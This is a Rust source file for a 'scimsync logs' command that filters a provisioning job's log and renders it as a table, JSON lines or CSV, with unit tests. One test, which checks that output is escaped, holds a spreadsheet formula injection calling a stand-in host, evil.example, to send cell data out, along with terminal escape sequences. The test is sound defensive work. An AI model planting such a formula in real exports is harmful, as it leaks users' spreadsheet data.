//! `scimsync logs`: the provisioning log of one job, filtered, as a table, JSON lines or
//! Entra-style CSV.
//!
//! The log is read from the job's state store. A running `serve` holds that store locked;
//! then the log is read through its admin API instead.

use crate::render;
use chrono::Utc;
use scimsync_api::logs::{self as shared, LogFilter, LogQuery};
use scimsync_config::{AdminConfig, SERVICE_FILE};
use scimsync_core::{LogEntry, Secret};
use serde_json::Value;
use std::path::Path;

/// Where `serve` writes the admin token it generated (see `serve`).
const GENERATED_TOKEN_FILE: &str = "admin-token";

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    /// Aligned columns for a terminal.
    Table,
    /// One JSON object per line.
    Jsonl,
    /// Entra's provisioning log download.
    Csv,
}

/// The flags of `scimsync logs`.
#[derive(Debug, Clone, clap::Args)]
pub struct LogsArgs {
    #[command(flatten)]
    pub job: crate::jobref::JobArgs,
    #[command(flatten)]
    pub state: crate::jobref::StateArg,
    /// Only this cycle's entries: its full id or a unique prefix of it.
    #[arg(long)]
    pub cycle: Option<String>,
    /// success, failure, skipped or warning.
    #[arg(long)]
    pub status: Option<String>,
    /// create, update, delete, disable, stageddelete or other.
    #[arg(long)]
    pub action: Option<String>,
    /// Object id or a substring of the UPN or display name.
    #[arg(long)]
    pub user: Option<String>,
    /// RFC 3339 time, a date, or an age such as 2h or 7d.
    #[arg(long)]
    pub since: Option<String>,
    /// RFC 3339 time, a date, or an age such as 2h or 7d.
    #[arg(long)]
    pub until: Option<String>,
    /// Output format.
    #[arg(long, value_enum, default_value = "table")]
    pub format: Format,
    /// The entries as one JSON array (the same objects as `--format jsonl`).
    #[arg(long, conflicts_with = "format")]
    pub json: bool,
}

impl LogsArgs {
    fn query(&self) -> LogQuery {
        LogQuery {
            cycle: self.cycle.clone(),
            status: self.status.clone(),
            action: self.action.clone(),
            user: self.user.clone(),
            since: self.since.clone(),
            until: self.until.clone(),
            limit: Some(shared::MAX_LIMIT),
        }
    }
}

/// How a job's state can be read right now.
pub(crate) enum Access {
    Store(crate::store_select::Store),
    /// A running `serve` holds the store.
    Locked,
}

/// Open the job's existing store (never creates one). No state for the job is an error that
/// names the jobs that have state there.
pub(crate) fn open_existing(state: &Path, job: &str) -> Result<Access, String> {
    match crate::store_select::open_existing(state, job) {
        Ok(Some(store)) => Ok(Access::Store(store)),
        Ok(None) => Ok(Access::Locked),
        Err(e) if !state.join(job).is_dir() => {
            let known = crate::jobref::state_jobs(state).unwrap_or_default();
            Err(format!(
                "{e}; jobs with state there: {}",
                if known.is_empty() {
                    "none".to_string()
                } else {
                    known.join(", ")
                }
            ))
        }
        Err(e) => Err(e),
    }
}

/// GET from the admin API of the `serve` holding the state.
pub(crate) async fn admin_get(
    config_dir: Option<&Path>,
    state: &Path,
    path: &str,
) -> Result<Value, String> {
    let admin = match config_dir.map(|d| d.join(SERVICE_FILE)) {
        Some(f) if f.exists() => {
            scimsync_config::load_service(&f)
                .map_err(|errs| {
                    errs.iter()
                        .map(|e| e.to_string())
                        .collect::<Vec<_>>()
                        .join("\n")
                })?
                .admin
        }
        _ => AdminConfig::default(),
    };
    let token: Secret = match &admin.token {
        Some(t) => t.resolve().map_err(|e| format!("admin.token: {e}"))?,
        None => {
            let f = state.join(GENERATED_TOKEN_FILE);
            let t = std::fs::read_to_string(&f).map_err(|_| {
                format!(
                    "no admin token: give --config-dir with the service file, or let `serve` generate {}",
                    f.display()
                )
            })?;
            Secret::inline(t.trim())
        }
    };
    // http or https (trusting exactly `[admin] tls_cert`), as `serve` listens.
    let (base, client) = crate::serve::admin_client(&admin, std::time::Duration::from_secs(60))
        .map_err(|e| format!("{e:#}"))?;
    let url = format!("{base}{path}");
    let resp = client
        .get(&url)
        .bearer_auth(token.expose())
        .send()
        .await
        .map_err(|_| {
            format!(
                "the job's state is locked by a running `scimsync serve`, and its admin API at {base} is not reachable (give --config-dir)"
            )
        })?;
    let status = resp.status();
    let v: Value = resp.json().await.unwrap_or(Value::Null);
    if !status.is_success() {
        let msg = v["error"]["message"].as_str().unwrap_or("");
        return Err(format!("admin API answered {status}: {msg}"));
    }
    Ok(v)
}

fn encode_query(q: &LogQuery) -> String {
    let mut pairs = Vec::new();
    let fields = [
        ("cycle", &q.cycle),
        ("status", &q.status),
        ("action", &q.action),
        ("user", &q.user),
        ("since", &q.since),
        ("until", &q.until),
    ];
    for (k, v) in fields {
        if let Some(v) = v {
            let v: String = url::form_urlencoded::byte_serialize(v.as_bytes()).collect();
            pairs.push(format!("{k}={v}"));
        }
    }
    pairs.push(format!("limit={}", shared::MAX_LIMIT));
    pairs.join("&")
}

/// `scimsync logs`.
pub async fn command(args: &LogsArgs) -> u8 {
    let state = args.state.state.as_path();
    let job = match args.job.name() {
        Ok(n) => n,
        Err(code) => return code,
    };
    let mut query = args.query();
    // A short cycle id is resolved against every cycle of the log, then filtered exactly.
    let prefix = query.cycle.take();
    let filter: LogFilter = match query.filter(Utc::now()) {
        Ok(f) => f,
        Err(e) => {
            eprintln!("error: {e}");
            return 2;
        }
    };
    let service_dir = args.job.service_dir();
    let all = match read(state, &job, &query, &filter, &service_dir).await {
        Ok(e) => e,
        Err(e) => {
            eprintln!("error: {e}");
            return 1;
        }
    };
    let entries = match prefix.as_deref().map(str::trim).filter(|p| !p.is_empty()) {
        None => all,
        Some(p) => {
            let cycles = if query_is_empty(&query) {
                cycle_ids(&all)
            } else {
                match read(
                    state,
                    &job,
                    &LogQuery::default(),
                    &LogFilter::default(),
                    &service_dir,
                )
                .await
                {
                    Ok(every) => cycle_ids(&every),
                    Err(e) => {
                        eprintln!("error: {e}");
                        return 1;
                    }
                }
            };
            match resolve_cycle(p, &cycles) {
                Ok(full) => all.into_iter().filter(|e| e.cycle_id == full).collect(),
                Err(e) => {
                    eprintln!("error: job {job}: {e}");
                    return 2;
                }
            }
        }
    };
    if args.json {
        outln!(
            "{}",
            serde_json::to_string_pretty(&entries).unwrap_or_default()
        );
    } else {
        out!("{}", render(&entries, args.format));
    }
    0
}

fn query_is_empty(q: &LogQuery) -> bool {
    [&q.status, &q.action, &q.user, &q.since, &q.until]
        .iter()
        .all(|v| v.is_none())
}

/// The job's entries that pass `filter`, oldest first: from the store, or through the admin
/// API of the `serve` that holds it.
async fn read(
    state: &Path,
    job: &str,
    query: &LogQuery,
    filter: &LogFilter,
    service_dir: &Path,
) -> Result<Vec<LogEntry>, String> {
    match open_existing(state, job)? {
        Access::Store(store) => shared::query(&store, job, filter).map_err(|e| e.to_string()),
        Access::Locked => {
            let path = format!("/api/jobs/{job}/logs?{}", encode_query(query));
            let v = admin_get(Some(service_dir), state, &path).await?;
            // The API answers newest first; the command prints oldest first.
            let mut e: Vec<LogEntry> = serde_json::from_value(v["entries"].clone())
                .map_err(|e| format!("unexpected answer from the admin API: {e}"))?;
            e.reverse();
            Ok(e)
        }
    }
}

/// The distinct cycle ids, in log order.
fn cycle_ids(entries: &[LogEntry]) -> Vec<String> {
    let mut ids: Vec<String> = Vec::new();
    for e in entries {
        if !ids.contains(&e.cycle_id) {
            ids.push(e.cycle_id.clone());
        }
    }
    ids
}

/// A full cycle id, or the one cycle a prefix names; several or none are errors naming them.
fn resolve_cycle(prefix: &str, cycles: &[String]) -> Result<String, String> {
    if cycles.iter().any(|c| c == prefix) {
        return Ok(prefix.to_string());
    }
    let hits: Vec<&String> = cycles.iter().filter(|c| c.starts_with(prefix)).collect();
    match hits.as_slice() {
        [one] => Ok((*one).clone()),
        [] => Err(format!("no cycle id starts with {prefix:?}")),
        many => Err(format!(
            "{prefix:?} is the start of {} cycle ids; give more of it: {}",
            many.len(),
            many.iter()
                .map(|c| c.as_str())
                .collect::<Vec<_>>()
                .join(", ")
        )),
    }
}

/// The entries in the chosen format (already masked).
pub fn render(entries: &[LogEntry], format: Format) -> String {
    match format {
        Format::Csv => shared::to_csv(entries),
        Format::Jsonl => entries
            .iter()
            .filter_map(|e| serde_json::to_string(e).ok())
            .map(|l| l + "\n")
            .collect(),
        Format::Table => table(entries),
    }
}

/// `s` shown safely ([`render::visible`]) and cut to `max` characters.
fn cut(s: &str, max: usize) -> String {
    let s = render::visible(s);
    if s.chars().count() <= max {
        s.into_owned()
    } else {
        let mut t: String = s.chars().take(max.saturating_sub(1)).collect();
        t.push('…');
        t
    }
}

fn table(entries: &[LogEntry]) -> String {
    if entries.is_empty() {
        return "no log entries match\n".into();
    }
    let mut t = crate::render::plain_table(&[
        "TIME (UTC)",
        "ACTION",
        "STATUS",
        "IDENTITY",
        "ERROR CODE",
        "CYCLE",
        "REASON",
    ]);
    for e in entries {
        t.add_row(vec![
            e.activity_date_time.format("%Y-%m-%d %H:%M:%S").to_string(),
            shared::name_of(&e.provisioning_action),
            shared::name_of(&e.status),
            cut(&e.source_display_name, 40),
            e.error_code.map(|c| c.to_string()).unwrap_or_default(),
            render::visible(&e.cycle_id).into_owned(),
            cut(&scimsync_core::text::reason(e), 80),
        ]);
    }
    format!(
        "{}\n{} entries\n",
        crate::render::trimmed(&t),
        entries.len()
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use scimsync_core::{ErrorCode, LogAction, LogStatus, LogStep, ModifiedProperty};

    fn entry() -> LogEntry {
        LogEntry {
            id: "e1".into(),
            activity_date_time: Utc::now(),
            job_id: "app".into(),
            cycle_id: "c1".into(),
            change_id: "ch1".into(),
            provisioning_action: LogAction::Create,
            status: LogStatus::Failure,
            error_code: Some(ErrorCode::SchemaViolation),
            reason: Some("bad, \"value\"".into()),
            source_id: "s1".into(),
            source_display_name: "ada@contoso.example".into(),
            target_id: None,
            provisioning_steps: vec![LogStep {
                name: "EntryExportAdd".into(),
                provisioning_step_type: "export".into(),
                status: LogStatus::Failure,
                description: "POST /Users".into(),
            }],
            modified_properties: vec![ModifiedProperty {
                display_name: "userPassword".into(),
                old_value: Some("old-secret-value".into()),
                new_value: Some("new-secret-value".into()),
            }],
            duration_in_milliseconds: 3,
        }
    }

    #[test]
    fn no_secret_in_any_format() {
        let masked = vec![shared::mask(&entry())];
        for f in [Format::Table, Format::Jsonl, Format::Csv] {
            let out = render(&masked, f);
            assert!(!out.contains("secret-value"), "{f:?}: {out}");
            assert!(out.contains("SchemaViolation"), "{f:?}: {out}");
        }
        assert!(render(&masked, Format::Jsonl).contains("[Redacted]"));
        assert!(render(&masked, Format::Csv).contains("[Redacted]"));
    }

    /// Issue 12 §2: control characters from source names never reach the terminal through
    /// the table, and the CSV opens in a spreadsheet without running a formula.
    #[test]
    fn hostile_names_are_escaped_in_the_table_and_csv() {
        let mut e = entry();
        e.source_display_name = "Ada\u{1b}[31m\u{7}\nLove".into();
        e.reason = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into());
        e.target_id = Some("@SUM(1+1)".into());
        e.provisioning_steps[0].description = "\u{1b}]0;title\u{7}".into();
        let entries = vec![shared::mask(&e)];

        let t = render(&entries, Format::Table);
        assert!(!t.contains(['\u{1b}', '\u{7}']), "{t:?}");
        assert!(t.contains(r"Ada\u{1b}[31m\u{7}\nLove"), "{t}");
        assert_eq!(t.lines().count(), 3, "header, one row, count: {t}");

        let csv = render(&entries, Format::Csv);
        assert!(!csv.contains(['\u{1b}', '\u{7}']), "{csv:?}");
        assert!(csv.contains(r"Ada\u{1b}[31m\u{7}\nLove"), "{csv}");
        assert!(
            csv.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#),
            "{csv}"
        );
        assert!(csv.contains(",'@SUM(1+1),"), "{csv}");
        assert!(csv.contains(r"\u{1b}]0;title\u{7}"), "{csv}");
        // Still one record per entry: no raw line break inside a cell.
        assert_eq!(csv.matches("\r\n").count(), 2, "{csv:?}");
        assert!(csv.starts_with(&shared::CSV_HEADER.join(",")));

        // JSON lines stay JSON, escaped by serde.
        let j = render(&entries, Format::Jsonl);
        assert!(j.contains(r"Ada\u001b[31m\u0007\nLove"), "{j}");
        assert_eq!(j.lines().count(), 1);
    }

    /// Display columns of `needle` in `line` (CJK and emoji count two).
    fn column_of(line: &str, needle: &str) -> usize {
        let at = line
            .find(needle)
            .unwrap_or_else(|| panic!("{needle} in {line}"));
        unicode_width::UnicodeWidthStr::width(&line[..at])
    }

    #[test]
    fn table_aligns_columns_and_counts() {
        let t = table(&[entry(), entry()]);
        let lines: Vec<&str> = t.lines().collect();
        assert!(lines[0].starts_with("TIME (UTC)"));
        assert_eq!(lines[0].find("ACTION"), lines[1].find("create"));
        assert_eq!(lines.last(), Some(&"2 entries"));
    }

    /// Issue 15: a CJK or emoji display name keeps the columns after it aligned on screen,
    /// the full cycle id is shown, and the reason column is filled.
    #[test]
    fn wide_names_keep_columns_aligned_and_ids_are_whole() {
        let mut wide = entry();
        wide.source_display_name = "山田太郎 🚀".into();
        wide.cycle_id = "0193a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b".into();
        let t = table(&[entry(), wide]);
        let lines: Vec<&str> = t.lines().collect();
        assert_eq!(lines.len(), 4, "{t}");
        let code = column_of(lines[0], "ERROR CODE");
        assert_eq!(column_of(lines[1], "SchemaViolation"), code, "{t}");
        assert_eq!(column_of(lines[2], "SchemaViolation"), code, "{t}");
        assert!(
            lines[2].contains("0193a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b"),
            "{t}"
        );
        assert!(lines[2].contains("山田太郎 🚀"), "{t}");
    }

    #[test]
    fn the_reason_says_why_when_the_entry_has_no_error() {
        let mut e = entry();
        e.reason = None;
        e.provisioning_action = LogAction::Disable;
        e.status = LogStatus::Success;
        e.provisioning_steps = vec![
            LogStep {
                name: "Import".into(),
                provisioning_step_type: "import".into(),
                status: LogStatus::Success,
                description: "Retrieved ada from the source".into(),
            },
            LogStep {
                name: "Scope".into(),
                provisioning_step_type: "scoping".into(),
                status: LogStatus::Skipped,
                description: "out of scope: not assigned to the application".into(),
            },
            LogStep {
                name: "EntryExportUpdate".into(),
                provisioning_step_type: "export".into(),
                status: LogStatus::Success,
                description: "PATCH /Users/1".into(),
            },
        ];
        assert_eq!(
            scimsync_core::text::reason(&e),
            "out of scope: not assigned to the application"
        );
        e.provisioning_steps[0].description = "the user is in the source's deleted items".into();
        e.provisioning_steps.remove(1);
        assert_eq!(
            scimsync_core::text::reason(&e),
            "the user is in the source's deleted items"
        );
        let t = table(&[e.clone()]);
        assert!(
            t.contains("the user is in the source's deleted items"),
            "{t}"
        );
        assert!(render(&[e], Format::Csv).contains(",the user is in the source's deleted items,"));
    }

    #[test]
    fn a_short_cycle_id_names_one_cycle_or_lists_the_candidates() {
        let cycles: Vec<String> = ["0193aa-1", "0193ab-2", "0194cc-3"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        assert_eq!(resolve_cycle("0194", &cycles), Ok("0194cc-3".into()));
        assert_eq!(resolve_cycle("0193ab-2", &cycles), Ok("0193ab-2".into()));
        let e = resolve_cycle("0193", &cycles).unwrap_err();
        assert!(e.contains("the start of 2 cycle ids"), "{e}");
        assert!(e.contains("0193aa-1, 0193ab-2"), "{e}");
        assert!(
            resolve_cycle("ff", &cycles)
                .unwrap_err()
                .contains("no cycle id starts with")
        );
    }
}
